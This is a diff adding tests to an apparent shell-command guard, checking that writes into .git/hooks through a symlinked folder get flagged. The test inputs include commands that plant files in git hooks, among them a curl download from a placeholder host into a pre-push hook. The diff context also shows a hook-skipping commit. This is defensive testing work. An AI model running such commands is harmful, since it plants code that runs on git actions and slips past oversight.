@@ -361,3 +361,18 @@ describe('ordinary shell the guard must read without tripping', () => {
     expect(blockedBy('cat <(git commit -n -m x)').length).toBeGreaterThan(0);
   });
 });
+
+describe('symlinks on disk', () => {
+  // As on disk: /repo/h is a link to /repo/.git/hooks, /repo/docs a plain folder.
+  const resolve = (p: string) => (p === '/repo/h' || p.startsWith('/repo/h/') ? p.replace('/repo/h', '/repo/.git/hooks') : p);
+  const through = (command: string) => findingsForAll(parseShell(command), { ...ctx, resolve }).map((f) => f.reason);
+
+  it.each(['echo x > h/pre-commit', 'cp evil h/', 'cp evil h', 'curl -o h/pre-push https://example.com/x', 'cd h && tee pre-commit'])('%s reaches .git/hooks through the link', (command) => {
+    expect(blockedBy(command)).toEqual([]);
+    expect(through(command).join('\n')).toContain('.git/hooks');
+  });
+
+  it.each(['echo x > docs/notes.md', 'cp a.txt docs/', 'cat h/pre-commit'])('%s passes', (command) => {
+    expect(through(command)).toEqual([]);
+  });
+});
